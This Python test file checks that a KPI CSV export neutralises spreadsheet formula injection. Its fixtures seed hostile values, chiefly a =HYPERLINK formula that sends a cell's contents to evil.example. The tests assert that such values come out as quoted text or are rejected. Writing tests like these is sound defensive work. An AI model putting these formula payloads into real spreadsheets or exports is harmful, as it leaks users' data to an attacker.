"""GET /api/kpis.csv opened in a spreadsheet: values people control never run as formulas (OWASP CSV
injection), on the local host with the sandbox's flows."""
import csv
import io
import json
import shutil

import pytest
import requests

from tests.conftest import ROOT, hosted, settle

# A catalog author controls the process area and patterns an action matches; findings and outcomes repeat them.
AREA = '=HYPERLINK("https://evil.example/?"&A2,"open")'
PATTERN = "@SUM(1+1)"
CASES = 16


@pytest.fixture(scope="module")
def hostile(azurite, tmp_path_factory):
    folder = tmp_path_factory.mktemp("catalog")
    shutil.copytree(ROOT / "catalog", folder, dirs_exist_ok=True)
    path = folder / "actions" / "leads.reassign.v1.json"
    doc = json.loads(path.read_text())
    doc["matches"] = {"processArea": AREA, "deviationPatterns": [PATTERN]}
    doc["holdoutPercent"] = 50
    path.write_text(json.dumps(doc))
    with hosted(azurite, CATALOG_DIR=str(folder)) as server:
        base = server.base_url
        findings = [{"eventId": f"x-{i}", "processArea": AREA, "deviationPattern": PATTERN, "caseKey": f"LX-{i:03d}",
                     "detectedAt": "2026-11-20T08:00:00Z", "attributes": {"leadId": f"LX-{i:03d}", "region": "EMEA"}}
                    for i in range(CASES)]
        assert requests.post(f"{base}/findings", json=findings).status_code == 202
        settle(server)
        outcomes = [{"processArea": AREA, "caseKey": f"LX-{i:03d}", "metric": "cycle_time_days", "value": 5 + i % 3,
                     "observedAt": "2026-11-23T00:00:00Z"} for i in range(CASES)]
        assert requests.post(f"{base}/outcomes", json=outcomes).status_code == 202
        yield server


def test_a_process_area_and_pattern_that_look_like_formulas_are_quoted_text_in_the_csv(hostile):
    r = requests.get(f"{hostile.base_url}/kpis.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    mine = [row for row in rows if row["processArea"].endswith(AREA)]
    assert mine, r.text
    for row in mine:
        assert row["processArea"] == "'" + AREA and row["deviationPattern"] == "'" + PATTERN
    assert "\"'=HYPERLINK(" in r.text and ",=HYPERLINK(" not in r.text and ",@SUM" not in r.text
    for line in r.text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), line
            if cell.startswith("-"):
                float(cell)  # only numbers the app computed start with a minus


def test_metric_names_and_action_ids_cannot_carry_a_formula_to_the_csv(hostile):
    base = hostile.base_url
    r = requests.post(f"{base}/outcomes", json={"processArea": "lead-management", "caseKey": "LX-000",
                                                "metric": '=HYPERLINK("https://evil.example","x")', "value": 1,
                                                "observedAt": "2026-11-23T00:00:00Z"})
    assert r.status_code == 422 and r.json()["errors"][0]["pointer"] == "/metric"
    from shared.domain.catalog import Action

    doc = json.loads((ROOT / "catalog" / "actions" / "leads.reassign.v1.json").read_text())
    for bad in ("=cmd", "-1+1", "@x", "+x"):
        with pytest.raises(ValueError):
            Action.model_validate({**doc, "id": bad})
